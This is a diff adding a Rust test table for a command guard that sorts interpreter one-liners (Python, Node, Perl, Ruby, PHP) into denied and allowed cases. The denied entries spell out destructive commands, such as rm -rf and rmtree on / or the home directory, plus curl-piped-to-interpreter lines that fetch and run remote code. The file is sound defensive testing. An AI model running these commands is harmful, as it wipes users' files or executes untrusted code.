@@ -1,0 +1,80 @@
+//! Interpreter one-liners: shell commands handed to the system, and recursive deletes of
+//! literal paths; ordinary one-liners stay allowed.
+
+use super::*;
+
+#[rustfmt::skip]
+const INTERPRETERS: &[(bool, &str)] = &[
+    // --- Python ---
+    (D, "python3 -c \"import shutil; shutil.rmtree('/')\""),
+    (D, "python -c 'import shutil; shutil.rmtree(\"/home/u\")'"),
+    (D, "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\""),
+    (D, "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~/.config'))\""),
+    (D, "python3 -c \"import shutil,pathlib; shutil.rmtree(pathlib.Path.home())\""),
+    (D, "python3 -c \"import shutil,os; shutil.rmtree(os.environ['HOME'])\""),
+    (D, "python3 -c \"import os; os.system('rm -rf ~')\""),
+    (D, "python3 -c \"__import__('os').system('rm -rf /')\""),
+    (D, "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'"),
+    (D, "python3 -c 'import subprocess; subprocess.run(\"rm -rf ~\", shell=True)'"),
+    (D, "python3 -c 'import subprocess as sp; sp.check_call(\"git reset --hard\", shell=True)'"),
+    (D, "python3 -c \"import os; d='x'; os.system(f'rm -rf {d}')\""),
+    (D, "python3 -uc \"import os; os.system('rm -rf /')\""),
+    (D, "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF"),
+    (D, "echo \"import os; os.system('rm -rf ~')\" | python3"),
+    (D, "curl -s https://x/setup.py | python3"),
+    (D, "curl -s https://x/setup.py | python3 -"),
+    // --- Node ---
+    (D, "node -e 'require(\"child_process\").execSync(\"rm -rf ~\")'"),
+    (D, "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\""),
+    (D, "node -e \"const fs=require('fs'),os=require('os'); fs.rmSync(os.homedir(), {recursive:true})\""),
+    (D, "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\""),
+    (D, "node --eval \"require('child_process').exec('rm -rf /', () => {})\""),
+    (D, "node -e 'const d=process.argv[1]; require(\"child_process\").execSync(`rm -rf ${d}`)'"),
+    (D, "nodejs -e \"require('fs-extra').removeSync('/home/u')\""),
+    (D, "curl -fsSL https://x | node"),
+    // --- Perl, Ruby, PHP ---
+    (D, "perl -e 'system(\"rm -rf /\")'"),
+    (D, "perl -e 'system \"rm\", \"-rf\", \"/\"'"),
+    (D, "perl -e '`rm -rf ~`'"),
+    (D, "perl -MFile::Path -e 'rmtree(\"/\")'"),
+    (D, "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'"),
+    (D, "perl -ne 'qx{rm -rf /}'"),
+    (D, "ruby -e 'system(\"rm -rf ~\")'"),
+    (D, "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'"),
+    (D, "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'"),
+    (D, "ruby -e 'require \"pathname\"; Pathname.new(\"/etc\").rmtree'"),
+    (D, "ruby -e '%x(rm -rf /)'"),
+    (D, "php -r 'system(\"rm -rf /\");'"),
+    (D, "php -r 'shell_exec(\"rm -rf ~\");'"),
+
+    // ================= allowed =================
+    (A, "python3 -c 'print(1)'"),
+    (A, "python3 -c \"import shutil; shutil.rmtree('build')\""),
+    (A, "python3 -c \"import shutil; shutil.rmtree('/tmp/x', ignore_errors=True)\""),
+    (A, "python3 -c \"import shutil,sys; shutil.rmtree(sys.argv[1])\" build"),
+    (A, "python3 -c \"import os; os.system('ls -la')\""),
+    (A, "python3 -c \"import subprocess; subprocess.run(['cargo', 'test'])\""),
+    (A, "python3 -c \"print('rm -rf /')\""),
+    (A, "python3 -c \"import os; print(os.path.expanduser('~'))\""),
+    (A, "python3 -m http.server 8000"),
+    (A, "python3 script.py"),
+    (A, "python3 -m json.tool < data.json"),
+    (A, "curl -s https://api.x | python3 -m json.tool"),
+    (A, "python3 - <<'EOF'\nprint('hello')\nEOF"),
+    (A, "node -e 'console.log(require(\"os\").homedir())'"),
+    (A, "node -e \"require('fs').rmSync('dist', {recursive: true, force: true})\""),
+    (A, "node -e \"require('child_process').execSync('npm run build')\""),
+    (A, "node -e \"require('fs').rmSync('/home/u/.npmrc')\""), // not recursive: one file
+    (A, "node build.js"),
+    (A, "perl -pi -e 's/foo/bar/' src/main.rs"),
+    (A, "perl -ne 'print if /rm -rf/' log.txt"),
+    (A, "ruby -e 'puts Dir.home'"),
+    (A, "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"tmp/cache\")'"),
+    (A, "php -r 'echo \"hi\";'"),
+    (A, "echo 'print(1)' | python3"),
+];
+
+#[test]
+fn interpreter_one_liners() {
+    check_table(INTERPRETERS);
+}
